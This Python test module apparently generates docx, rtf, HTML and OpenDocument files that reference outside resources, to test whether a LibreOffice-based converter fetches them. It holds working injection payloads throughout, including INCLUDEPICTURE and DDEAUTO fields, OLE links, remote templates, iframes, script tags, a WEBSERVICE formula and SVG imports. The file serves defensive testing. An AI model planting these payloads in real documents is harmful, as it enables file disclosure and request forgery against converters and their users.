"""Texts that refer to what is not theirs: docx, rtf, html, odt and fodt."""

# Lines as a reader of the format wants them: a table's row, a document, or a structure's fields on one.
# fmt: off

from link_attacks import FLAT_TEXT, IN_TEXT, RTF, SIMPLE, WORD, WRITER_HTML, attack, each, external
from packages import XML, docx, docx_picture, field, flat, odf, relationships

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

    from link_attacks import At, Content, Write

# docx

each({
    "docx picture": lambda at: (docx_picture('r:link="rIdL"'), external("image", at("png"))),
    "docx picture embed": lambda at: (docx_picture('r:embed="rIdL"'), external("image", at("png"))),
    "docx vml picture": lambda at: ('<w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="rIdL"/></v:shape></w:pict></w:r></w:p>', external("image", at("png"))),
    "docx vml href": lambda at: ('<w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:href="rIdL"/></v:shape></w:pict></w:r></w:p>', external("image", at("png"))),
    "docx vml fill": lambda at: ('<w:p><w:r><w:pict><v:rect style="width:90pt;height:90pt"><v:fill type="frame" r:id="rIdL" src="%s"/></v:rect></w:pict></w:r></w:p>' % at("png"), external("image", at("png"))),
    "docx includepicture": lambda at: (field('INCLUDEPICTURE "%s" \\d' % at("png")), external("image", at("png"))),
    "docx includetext": lambda at: (field('INCLUDETEXT "%s"' % at("txt")), external("image", at("png"))),
    "docx include": lambda at: (field('INCLUDE "%s"' % at("odt")), external("image", at("png"))),
    "docx import": lambda at: (field('IMPORT "%s"' % at("png")), external("image", at("png"))),
    "docx rd": lambda at: (field('RD "%s"' % at("odt")) + field('TOC \\o "1-3"'), external("image", at("png"))),
    "docx dde": lambda at: (field('DDEAUTO soffice "%s" body' % at("odt")), external("image", at("png"))),
    "docx link": lambda at: (field('LINK Word.Document.12 "%s" "" \\a \\r' % at("docx")), external("image", at("png"))),
    "docx database": lambda at: (field('DATABASE \\d "%s" \\c "DSN=x" \\s "SELECT * FROM x"' % at("csv")), external("image", at("png"))),
    "docx altchunk": lambda at: ('<w:altChunk r:id="rIdL"/>', external("aFChunk", at("html"))),
    "docx subdocument": lambda at: ('<w:p><w:subDoc r:id="rIdL"/></w:p>', external("subDocument", at("docx"))),
    "docx ole link": lambda at: ('<w:p><w:r><w:object><v:shape id="s" style="width:90pt;height:90pt"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s" DrawAspect="Content" r:id="rIdL" UpdateMode="Always"/></w:object></w:r></w:p>', external("oleObject", at("ods"))),
    "docx frameset": lambda at: ('<w:p><w:r><w:t xml:space="preserve"> </w:t></w:r></w:p>', external("frame", at("html"))),
}, WORD, "writer", "docx", lambda path, at, content: docx(path, content(at)[0], [content(at)[1]]))


@attack(WORD, "writer", "docx")
def docx_template(path: str, at: "At") -> None:
    docx(path, "", parts={
        "word/settings.xml": XML + '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rIdL"/><w:linkStyles/></w:settings>',
        "word/_rels/settings.xml.rels": relationships(external("attachedTemplate", at("docx"))),
    })


@attack(WORD, "writer", "docx")
def docx_whole_document(path: str, at: "At") -> None:
    """The package says that its main part is elsewhere."""
    docx(path, "", parts={"_rels/.rels": relationships(("rId0", "officeDocument", at("docx"), "External"))})


@attack(WORD, "writer", "docx")
def docx_svg_inside(path: str, at: "At") -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="%s"/></svg>' % at("png")
    docx(path, docx_picture('r:embed="rIdL"'), [("rIdL", "image", "media/x.svg")], parts={"word/media/x.svg": svg})


# rtf

each({
    "rtf includepicture": lambda at: r'{\field{\*\fldinst INCLUDEPICTURE "%s" \\d}{\fldrslt }}' % at("png"),
    "rtf includetext": lambda at: r'{\field{\*\fldinst INCLUDETEXT "%s"}{\fldrslt shown}}' % at("txt"),
    "rtf import": lambda at: r'{\field{\*\fldinst IMPORT "%s"}{\fldrslt }}' % at("png"),
    "rtf template": lambda at: r"{\*\template %s}\linkstyles" % at("rtf"),
    "rtf nextfile": lambda at: r"{\*\nextfile %s}" % at("rtf"),
    "rtf dde": lambda at: r'{\field{\*\fldinst DDEAUTO soffice "%s" body}{\fldrslt shown}}' % at("odt"),
    "rtf object link": lambda at: r'{\object\objautlink\objw1000\objh1000{\*\objclass Word.Document.8}{\*\objalias {\*\objdata 0105}}{\*\objname %s}{\result shown}}' % at("odt"),
    "rtf file table": lambda at: r'{\*\filetbl{\file\fid0\frelative0 %s;}}{\subdocument0}' % at("rtf"),
    "rtf shape picture": lambda at: r'{\shp{\*\shpinst\shpleft0\shptop0\shpright3000\shpbottom3000{\sp{\sn shapeType}{\sv 75}}{\sp{\sn pibName}{\sv %s}}{\sp{\sn pibFlags}{\sv 10}}{\sp{\sn fillBlipName}{\sv %s}}}}' % (at("png"), at("png")),
}, RTF, "writer", "rtf", lambda path, at, content: open(path, "w").write(r"{\rtf1\ansi before\par %s\par after}" % content(at)))

# html

each({
    "html img": lambda at: ('<img src="%s" width=200 height=200>' % at("png"), ""),
    "html base": lambda at: ('<img src="secret.png" width=200 height=200>', '<base href="%s">' % at("").removesuffix("secret.")),
    "html input image": lambda at: ('<form><input type=image src="%s" width=200 height=200></form>' % at("png"), ""),
    "html body background": lambda at: ("<script>document.x</script>", '<style>body{background:url(%s)}</style>' % at("png")),
    "html table background": lambda at: ('<table background="%s" width=200 height=200><tr><td background="%s" height=200>x</table>' % (at("png"), at("png")), ""),
    "html style background": lambda at: ('<p style="background-image:url(%s)">x</p><ul style="list-style-image:url(%s)"><li>x</ul>' % (at("png"), at("png")), ""),
    "html stylesheet": lambda at: ("<p>x</p>", '<link rel="stylesheet" type="text/css" href="%s">' % at("css")),
    "html import": lambda at: ("<p>x</p>", '<style type="text/css">@import url("%s");</style>' % at("css")),
    "html iframe": lambda at: ('<iframe src="%s" width=300 height=300></iframe>' % at("html"), ""),
    "html object": lambda at: ('<object data="%s" type="text/html" width=300 height=300></object>' % at("html"), ""),
    "html object picture": lambda at: ('<object data="%s" type="image/png" width=300 height=300></object>' % at("png"), ""),
    "html embed": lambda at: ('<embed src="%s" width=300 height=300>' % at("html"), ""),
    "html applet": lambda at: ('<applet code="x" codebase="%s" width=300 height=300></applet>' % at("html"), ""),
    "html refresh": lambda at: ("<p>x</p>", '<meta http-equiv="refresh" content="0; url=%s">' % at("html")),
    "html script": lambda at: ("<p>x</p>", '<script src="%s"></script>' % at("html")),
    "html section": lambda at: ('<div id="s" href="%s">shown</div>' % at("html"), ""),
    "html section filter": lambda at: ('<div id="s" href="%s&#255;writer8&#255;">shown</div>' % at("odt"), ""),
    "html dde": lambda at: ("<p>x</p>", '<meta name="SDDDE" content="x"><sdfield type=dde sdval="soffice %s body">' % at("odt")),
}, WRITER_HTML, "writer", "html", lambda path, at, content: open(path, "w").write("<html><head>%s</head><body>before %s after</body></html>" % (content(at)[1], content(at)[0])))


@attack(WRITER_HTML, "writer", "html")
def html_frameset(path: str, at: "At") -> None:
    with open(path, "w") as file:
        file.write('<html><frameset rows="50%%,50%%"><frame src="%s"><frame src="%s"></frameset></html>' % (at("html"), at("png")))


@attack(WRITER_HTML, "writer", "html")
def html_body_attribute(path: str, at: "At") -> None:
    with open(path, "w") as file:
        file.write('<html><body background="%s">x</body></html>' % at("png"))


each({
    "html sheet img": lambda at: '<table><tr><td><img src="%s" width=200 height=200></table>' % at("png"),
    "html sheet formula": lambda at: '<table><tr><td sdval="1" sdformula="=WEBSERVICE(&quot;%s&quot;)">=WEBSERVICE("%s")</table>' % (at("txt"), at("txt")),
    "html sheet link": lambda at: '<link rel="stylesheet" href="%s"><table><tr><td>x</table>' % at("css"),
}, "calc_HTML_WebQuery", "calc", "html", lambda path, at, content: open(path, "w").write("<html><body>%s</body></html>" % content(at)))

# OpenDocument, as a package and flat

STYLE = '<style:style style:name="S" style:family="%s"><style:%s-properties>%s</style:%s-properties></style:style>'

TEXT: "dict[str, Content]" = {
    "picture": lambda at: (IN_TEXT % ("<draw:image %s/>" % (SIMPLE % at("png"))), ""),
    "section": lambda at: ('<text:section text:name="s"><text:section-source xlink:href="%s" text:filter-name="writer8"/><text:p>shown</text:p></text:section>' % at("odt"), ""),
    "section text": lambda at: ('<text:section text:name="s"><text:section-source xlink:href="%s" text:filter-name="Text"/><text:p>shown</text:p></text:section>' % at("txt"), ""),
    "section dde": lambda at: ('<text:section text:name="s"><office:dde-source office:dde-application="soffice" office:dde-topic="%s" office:dde-item="body" office:automatic-update="true"/><text:p>shown</text:p></text:section>' % at("odt"), ""),
    "object": lambda at: (IN_TEXT % ("<draw:object %s/>" % (SIMPLE % at("ods"))), ""),
    "object ole": lambda at: (IN_TEXT % ("<draw:object-ole %s/>" % (SIMPLE % at("doc"))), ""),
    "plugin": lambda at: (IN_TEXT % ('<draw:plugin draw:mime-type="text/html" %s/>' % (SIMPLE % at("html"))), ""),
    "media": lambda at: (IN_TEXT % ('<draw:plugin draw:mime-type="application/vnd.sun.star.media" %s/>' % (SIMPLE % at("png"))), ""),
    "floating frame": lambda at: (IN_TEXT % ("<draw:floating-frame %s/>" % (SIMPLE % at("html"))), ""),
    "applet": lambda at: (IN_TEXT % ('<draw:applet draw:code="x.class" %s/>' % (SIMPLE % at("html"))), ""),
    "background": lambda at: ('<text:p text:style-name="S">x</text:p>' * 20, STYLE % ("paragraph", "paragraph", "<style:background-image %s/>" % (SIMPLE % at("png")), "paragraph")),
    "bullet": lambda at: ('<text:list text:style-name="L"><text:list-item><text:p>x</text:p></text:list-item></text:list>', '<text:list-style style:name="L"><text:list-level-style-image text:level="1" %s><style:list-level-properties fo:width="4cm" fo:height="4cm"/></text:list-level-style-image></text:list-style>' % (SIMPLE % at("png"))),
    "master template": lambda at: ("<text:p>x</text:p>", "", '<office:meta><meta:template xlink:type="simple" xlink:href="%s" meta:date="2001-01-01T00:00:00"/></office:meta>' % at("odt")),
    "auto reload": lambda at: ("<text:p>x</text:p>", "", '<office:meta><meta:auto-reload xlink:type="simple" xlink:href="%s" meta:delay="PT0S"/></office:meta>' % at("html")),
    "font": lambda at: ('<text:p text:style-name="S">x</text:p>', '<style:style style:name="S" style:family="paragraph"><style:text-properties style:font-name="F"/></style:style>', '<office:font-face-decls><style:font-face style:name="F" svg:font-family="F"><svg:font-face-src><svg:font-face-uri xlink:type="simple" xlink:href="%s"/></svg:font-face-src></style:font-face></office:font-face-decls>' % at("ttf")),
    "form image": lambda at: ('<office:forms form:automatic-focus="false"><form:form form:name="f"><form:image-frame form:id="i" form:control-implementation="ooo:com.sun.star.form.component.DatabaseImageControl" form:image-data="%s"/><form:image form:id="b" form:control-implementation="ooo:com.sun.star.form.component.ImageButton" form:image-data="%s"/></form:form></office:forms><text:p><draw:control draw:control="b" text:anchor-type="paragraph" svg:width="4cm" svg:height="4cm" svg:x="0cm" svg:y="0cm"/></text:p>' % (at("png"), at("png")), ""),
    "database": lambda at: ('<text:p><text:database-display text:table-name="secret" text:database-name="%s" text:column-name="a" xlink:href="%s">shown</text:database-display></text:p>' % (at("csv"), at("csv")), ""),
}


def with_head(write: "Callable[..., None]") -> "Write":
    def made(path: str, at: "At", content: "Content") -> None:
        body, styles, *head = content(at)
        write(path, "text", body, styles=styles, head=head[0] if head else "")

    return made


each({"odt " + name: content for name, content in TEXT.items()}, "writer8", "writer", "odt", with_head(odf))
each({"fodt " + name: content for name, content in TEXT.items()}, FLAT_TEXT, "writer", "fodt", with_head(flat))


@attack("writer8", "writer", "odt")
def odt_fill_image(path: str, at: "At") -> None:
    styles = XML + (
        '<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
        '<office:styles><draw:fill-image draw:name="B" %s/></office:styles></office:document-styles>' % (SIMPLE % at("png")))
    rectangle = '<style:style style:name="S" style:family="graphic"><style:graphic-properties draw:fill="bitmap" draw:fill-image-name="B"/></style:style>'
    body = '<text:p><draw:rect draw:style-name="S" text:anchor-type="paragraph" svg:x="0cm" svg:y="0cm" svg:width="6cm" svg:height="6cm"/></text:p>'
    odf(path, "text", body, styles=rectangle, parts={"styles.xml": styles})


@attack("writer8", "writer", "odt")
def odt_svg_inside(path: str, at: "At") -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="%s"/></svg>' % at("png")
    odf(path, "text", IN_TEXT % '<draw:image xlink:href="Pictures/x.svg"/>', parts={"Pictures/x.svg": svg})


@attack("writer8", "writer", "odt")
def odt_svg_style_inside(path: str, at: "At") -> None:
    svg = '<?xml-stylesheet type="text/css" href="%s"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><style>@import url(%s);</style><use xlink:href="%s#x"/></svg>' % (at("css"), at("css"), at("svg"))
    odf(path, "text", IN_TEXT % '<draw:image xlink:href="Pictures/x.svg"/>', parts={"Pictures/x.svg": svg})
